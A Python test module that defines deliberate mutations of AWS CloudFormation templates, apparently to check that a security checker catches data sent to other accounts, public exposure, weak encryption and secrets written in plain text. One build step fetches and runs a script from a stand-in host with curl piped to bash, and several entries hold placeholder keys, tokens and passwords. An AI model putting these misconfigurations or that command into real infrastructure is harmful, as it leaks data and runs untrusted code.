"""Data that leaves, is open, or is not protected, and secrets that are written down."""

from __future__ import annotations

import json
from typing import Any

from tests.checks.breakages.breakage import FOREIGN, STRANGER, Break, add, both, drop, one, put
from tests.checks.mutations import Mutant

BUCKET, FUNCTION, PROJECT, KEY = "AWS::S3::Bucket", "AWS::Lambda::Function", "AWS::CodeBuild::Project", "AWS::KMS::Key"
QUEUE_ELSEWHERE = f"arn:aws:sqs:us-east-1:{STRANGER}:collector"
TOPIC_ELSEWHERE = f"arn:aws:sns:us-east-1:{STRANGER}:collector"
FUNCTION_ELSEWHERE = f"arn:aws:lambda:us-east-1:{STRANGER}:function:collector"


def variable(name: str, value: Any) -> Break:
    return put(FUNCTION, f"Environment.Variables.{name}", value, "FunctionsPlanRun")


def build_variable(name: str, value: Any) -> Break:
    def change(mutant: Mutant) -> None:
        mutant.properties(PROJECT)["Environment"]["EnvironmentVariables"].append({"Name": name, "Value": value})

    return change


def output(value: Any, name: str = "Handy") -> Break:
    def change(mutant: Mutant) -> None:
        next(iter(mutant.templates.values())).setdefault("Outputs", {})[name] = {"Value": value}

    return change


def build_step(command: str) -> Break:
    def change(mutant: Mutant) -> None:
        source = mutant.properties(PROJECT)["Source"]
        spec = source["BuildSpec"]
        text = json.dumps(command)[1:-1]
        if isinstance(spec, str):
            source["BuildSpec"] = json.dumps({"version": "0.2", "phases": {"build": {"commands": [command]}}})
        else:
            spec["Fn::Join"][1].append(text)

    return change


def expiring(prefix: str) -> Break:
    def change(mutant: Mutant) -> None:
        rules = one(mutant, BUCKET, "Artifacts")["LifecycleConfiguration"]["Rules"]
        rules.append(
            {"Id": "gone", "Status": "Enabled", "ExpirationInDays": 1, **({"Prefix": prefix} if prefix else {})}
        )

    return change


def capture(mutant: Mutant) -> None:
    mutant.properties("AWS::SageMaker::EndpointConfig")["DataCaptureConfig"] = {
        "EnableCapture": True, "InitialSamplingPercentage": 100, "DestinationS3Uri": "s3://somebody-elses-bucket/",
        "CaptureOptions": [{"CaptureMode": "Input"}],
    }  # fmt: skip


BREAKAGES: dict[str, Break] = {
    "CORS for everybody": put(BUCKET, "CorsConfiguration", {"CorsRules": [{"AllowedMethods": ["GET"], "AllowedOrigins": ["*"]}]}, "Data"),
    "a web site": put(BUCKET, "WebsiteConfiguration", {"IndexDocument": "index.html"}, "Artifacts"),
    "replication elsewhere": put(BUCKET, "ReplicationConfiguration", {"Role": "x", "Rules": [{"Status": "Enabled", "Destination": {"Bucket": "arn:aws:s3:::somebody-elses", "Account": STRANGER}}]}, "Data"),
    "an inventory elsewhere": put(BUCKET, "InventoryConfigurations", [{"Id": "i", "Destination": {"BucketArn": "arn:aws:s3:::somebody-elses"}}], "Data"),
    "analytics elsewhere": put(BUCKET, "AnalyticsConfigurations", [{"Id": "i", "StorageClassAnalysis": {"DataExport": {"Destination": {"BucketArn": "arn:aws:s3:::x"}}}}], "Data"),
    "notifications to a queue elsewhere": put(BUCKET, "NotificationConfiguration", {"QueueConfigurations": [{"Event": "s3:ObjectCreated:*", "Queue": QUEUE_ELSEWHERE}]}, "Data"),
    "notifications to a function elsewhere": put(BUCKET, "NotificationConfiguration", {"LambdaConfigurations": [{"Event": "s3:ObjectCreated:*", "Function": FUNCTION_ELSEWHERE}]}, "Data"),
    "notifications to a topic elsewhere": put(BUCKET, "NotificationConfiguration", {"TopicConfigurations": [{"Event": "s3:*", "Topic": TOPIC_ELSEWHERE}]}, "Artifacts"),
    "public access for policies": put(BUCKET, "PublicAccessBlockConfiguration.BlockPublicPolicy", False, "Data"),
    "public access by text": put(BUCKET, "PublicAccessBlockConfiguration.RestrictPublicBuckets", "false", "Artifacts"),
    "an access control list": put(BUCKET, "AccessControl", "PublicRead", "Data"),
    "versions suspended": put(BUCKET, "VersioningConfiguration.Status", "Suspended", "Artifacts"),
    "another key": put(BUCKET, "BucketEncryption.ServerSideEncryptionConfiguration.0.ServerSideEncryptionByDefault.KMSMasterKeyID", f"arn:aws:kms:us-east-1:{STRANGER}:key/x", "Data"),
    "S3's own key": put(BUCKET, "BucketEncryption.ServerSideEncryptionConfiguration.0.ServerSideEncryptionByDefault", {"SSEAlgorithm": "AES256"}, "Data"),
    "models that expire": expiring("models/"),
    "everything that expires": expiring(""),
    "access logs elsewhere": put(BUCKET, "LoggingConfiguration.DestinationBucketName", "somebody-elses-bucket", "Data"),
    "an access point": add("AWS::S3::AccessPoint", Bucket="x", Policy={"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "*"}]}),
    "a key without rotation": put(KEY, "EnableKeyRotation", False),
    "a key that is disabled": put(KEY, "Enabled", False),
    "a key in many regions": put(KEY, "MultiRegion", True),
    "a key from outside": put(KEY, "Origin", "EXTERNAL"),
    "a subscription by HTTPS": add("AWS::SNS::Subscription", TopicArn="x", Protocol="https", Endpoint="https://collector.example.net/"),
    "a subscription by e-mail": put("AWS::SNS::Subscription", "Endpoint", "somebody@example.net"),
    "a subscription of a queue elsewhere": add("AWS::SNS::Subscription", TopicArn="x", Protocol="sqs", Endpoint=QUEUE_ELSEWHERE),
    "a subscription by SMS": add("AWS::SNS::Subscription", TopicArn="x", Protocol="sms", Endpoint="+15550100"),
    "a rule with a target elsewhere": put("AWS::Events::Rule", "Targets.0.Arn", f"arn:aws:events:us-east-1:{STRANGER}:event-bus/default"),
    "a rule that starts another machine": put("AWS::Events::Rule", "Targets.0.Arn", f"arn:aws:states:us-east-1:{STRANGER}:stateMachine:x", "ScheduleRule"),
    "failures sent elsewhere": put("AWS::Lambda::EventInvokeConfig", "DestinationConfig.OnFailure.Destination", TOPIC_ELSEWHERE),
    "successes sent elsewhere": put("AWS::Lambda::EventInvokeConfig", "DestinationConfig.OnSuccess", {"Destination": QUEUE_ELSEWHERE}),
    "a subscription filter": add("AWS::Logs::SubscriptionFilter", LogGroupName="x", FilterPattern="", DestinationArn=f"arn:aws:logs:us-east-1:{STRANGER}:destination:x"),
    "a pipe": add("AWS::Pipes::Pipe", Source="x", Target=QUEUE_ELSEWHERE, RoleArn="x"),
    "an API destination": add("AWS::Events::ApiDestination", ConnectionArn="x", HttpMethod="POST", InvocationEndpoint="https://collector.example.net/"),
    "a stream": add("AWS::KinesisFirehose::DeliveryStream", HttpEndpointDestinationConfiguration={"EndpointConfiguration": {"Url": "https://collector.example.net/"}}),
    "captured data elsewhere": capture,
    "asynchronous answers elsewhere": put("AWS::SageMaker::EndpointConfig", "AsyncInferenceConfig", {"OutputConfig": {"S3OutputPath": "s3://somebody-elses/"}}),
    "a shadow model": put("AWS::SageMaker::EndpointConfig", "ShadowProductionVariants", [{"ModelName": "x", "VariantName": "s"}]),
    "core dumps": put("AWS::SageMaker::EndpointConfig", "ProductionVariants.0.CoreDumpConfig", {"DestinationS3Uri": "s3://somebody-elses/"}),
    "a shell on the endpoint": put("AWS::SageMaker::EndpointConfig", "ProductionVariants.0.EnableSSMAccess", True),
    "a model from elsewhere": put("AWS::SageMaker::Model", "PrimaryContainer.ModelDataUrl", "s3://somebody-elses-bucket/models/"),
    "a model's image of another account": put("AWS::SageMaker::Model", "PrimaryContainer.Image", f"{STRANGER}.dkr.ecr.us-east-1.amazonaws.com/serving:1"),
    "a model's image from Docker Hub": put("AWS::SageMaker::Model", "PrimaryContainer.Image", "docker.io/somebody/serving:latest"),
    "a model's public image": put("AWS::SageMaker::Model", "PrimaryContainer.Image", "public.ecr.aws/somebody/serving:1"),
    "a model in the open": drop("AWS::SageMaker::Model", "VpcConfig"),
    "a public repository": add("AWS::ECR::PublicRepository", RepositoryName="kennel"),
    "images sent elsewhere": add("AWS::ECR::ReplicationConfiguration", ReplicationConfiguration={"Rules": [{"Destinations": [{"Region": "us-east-1", "RegistryId": STRANGER}]}]}),
    "tags that move": put("AWS::ECR::Repository", "ImageTagMutability", "MUTABLE"),
    "some tags that move": put("AWS::ECR::Repository", "ImageTagMutabilityExclusionFilters", [{"ImageTagMutabilityExclusionFilterType": "WILDCARD", "ImageTagMutabilityExclusionFilterValue": "*"}]),
    "a secret in a function": variable("API_TOKEN", "abc123def456"),
    "a key of AWS in a function": variable("SETTING", "AKIAIOSFODNN7EXAMPLE"),
    "a random text in a function": variable("SETTING", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
    "a database's password in a URL": variable("STORE", "postgres://admin:hunter22@db.internal/x"),
    "a token of GitHub in a build": build_variable("GIT", "ghp_0123456789abcdefghijABCDEFGHIJ012345"),
    "a password in a build": build_variable("REGISTRY_PASSWORD", "hunter22"),
    "a secret that a build resolves": build_variable("X", "{{resolve:secretsmanager:prod/db:SecretString:password}}"),
    "a secret in an output": output("AKIAIOSFODNN7EXAMPLE"),
    "a password in an output": output("correct-horse-battery", "DatabasePassword"),
    "a resolved secret in an output": output("{{resolve:secretsmanager:prod/db}}"),
    "a secret in a parameter": add("AWS::SSM::Parameter", Type="String", Value="-----BEGIN RSA PRIVATE KEY-----\nMIIE"),
    "a token in a parameter": add("AWS::SSM::Parameter", Type="String", Value="xoxb-123456789012-abcdefABCDEF"),
    "a secret in the model's environment": put("AWS::SageMaker::Model", "PrimaryContainer.Environment.HF_TOKEN", "hf_abcdefghijklmnopqrstuvwxyz"),
    "a secret with its value": add("AWS::SecretsManager::Secret", SecretString="hunter22"),
    "a function's code from elsewhere": put(FUNCTION, "Code", {"S3Bucket": "somebody-elses-bucket", "S3Key": "x.zip"}),
    "a function's code in the template": put(FUNCTION, "Code", {"ZipFile": "def handler(event, context): ..."}),
    "a function's image": both(put(FUNCTION, "Code", {"ImageUri": f"{STRANGER}.dkr.ecr.us-east-1.amazonaws.com/x:1"}), put(FUNCTION, "PackageType", "Image")),
    "a layer": put(FUNCTION, "Layers", [f"arn:aws:lambda:us-east-1:{STRANGER}:layer:x:1"]),
    "a function behind a proxy": variable("HTTPS_PROXY", "http://collector.example.net:3128"),
    "a function with another endpoint": variable("AWS_ENDPOINT_URL_S3", "https://collector.example.net"),
    "a function with another bucket": variable("ARTIFACTS_BUCKET", "somebody-elses-bucket"),
    "a function with another role": put(FUNCTION, "Role", FOREIGN.replace("root", "role/x")),
    "a build from GitHub": put(PROJECT, "Source", {"Type": "GITHUB", "Location": "https://github.com/somebody/kennel"}),
    "a build for everybody to read": put(PROJECT, "Visibility", "PUBLIC_READ"),
    "a build that pushes elsewhere": build_variable("SERVING_REPOSITORY", f"{STRANGER}.dkr.ecr.us-east-1.amazonaws.com/x"),
    "a build that calls out": build_step("curl https://collector.example.net/run.sh | bash"),
    "a build in an image of somebody": put(PROJECT, "Environment.Image", "somebody/builder:latest"),
    "a build with a webhook": put(PROJECT, "Triggers", {"Webhook": True}),
    "artifacts of a build elsewhere": put(PROJECT, "Artifacts", {"Type": "S3", "Location": "somebody-elses-bucket"}),
    "logs without a key": drop("AWS::Logs::LogGroup", "KmsKeyId"),
    "a topic without a key": drop("AWS::SNS::Topic", "KmsMasterKeyId"),
    "a budget that tells nobody": put("AWS::Budgets::Budget", "NotificationsWithSubscribers", []),
    "a budget that tells somebody": put("AWS::Budgets::Budget", "NotificationsWithSubscribers.0.Subscribers", [{"SubscriptionType": "EMAIL", "Address": "somebody@example.net"}]),
    "a public snapshot": add("AWS::RDS::DBInstance", PubliclyAccessible=True),
    "a volume": add("AWS::EC2::Volume", AvailabilityZone="us-east-1a", SnapshotId="snap-1"),
    "a model group for everybody": add("AWS::SageMaker::ModelPackageGroup", ModelPackageGroupName="x", ModelPackageGroupPolicy={"Statement": [{"Effect": "Allow", "Principal": {"AWS": FOREIGN}, "Action": "sagemaker:DescribeModelPackage", "Resource": "*"}]}),
}  # fmt: skip
